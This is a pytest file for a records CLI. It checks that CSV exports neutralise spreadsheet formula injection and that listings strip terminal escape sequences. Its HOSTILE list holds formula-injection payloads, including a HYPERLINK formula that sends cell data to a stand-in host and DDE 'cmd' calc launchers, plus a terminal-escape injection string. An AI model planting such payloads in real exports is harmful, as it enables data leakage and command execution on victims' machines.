"""Exports safe to open in a spreadsheet; listings safe to print (all data FICTIONAL)."""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import pytest
from _registry_helpers import ListWriter

from gawah.cli import main

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _run(
    args: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str]:
    monkeypatch.setattr(sys, "argv", ["gawah", *args])
    code = 0
    try:
        main()
    except SystemExit as exc:
        code = int(exc.code or 0)
    out = capsys.readouterr()
    return code, out.out + out.err


@pytest.fixture
def home(
    tmp_path: Path,
    write_list: ListWriter,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Path:
    folder = tmp_path / "ws"
    monkeypatch.setenv("GAWAH_HOME", str(folder))
    monkeypatch.setenv("COLUMNS", "250")
    # The device key is passphrase-protected, as by default.
    monkeypatch.setenv("GAWAH_PASSPHRASE", "FICTIONAL test passphrase")
    assert _run(["init"], monkeypatch, capsys)[0] == 0
    rows = [["record_id", "full_name", "notes"]]
    rows += [[str(n), f"FICTIONAL {n}", value] for n, value in enumerate(HOSTILE)]
    rows.append(["9", "Evil\x1b]0;pwned\x07\x1b[2JName", "plain"])
    code, out = _run(
        ["import", str(write_list(rows)), "--source", "Press", "--new-source"],
        monkeypatch,
        capsys,
    )
    assert code == 0, out
    return folder


def _notes(path: Path) -> set[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return {row["notes"] for row in csv.DictReader(fh)}


def test_export_neutralises_formulas_unless_raw(
    home: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert _run(["export", "csv", "--out", str(safe)], monkeypatch, capsys)[0] == 0
    notes = _notes(safe)
    assert {"'" + h for h in HOSTILE} <= notes
    assert not notes & set(HOSTILE)
    assert "plain" in notes
    code, _ = _run(["export", "csv", "--out", str(raw), "--raw"], monkeypatch, capsys)
    assert code == 0
    assert set(HOSTILE) <= _notes(raw)


@pytest.mark.parametrize(
    "command", [["reports", "list"], ["reports", "list", "--json"]]
)
def test_listing_prints_no_escape_sequences(
    home: Path,
    command: list[str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, out = _run(command, monkeypatch, capsys)
    assert code == 0
    assert "Evil" in out
    assert "\x1b" not in out
    assert "\x07" not in out
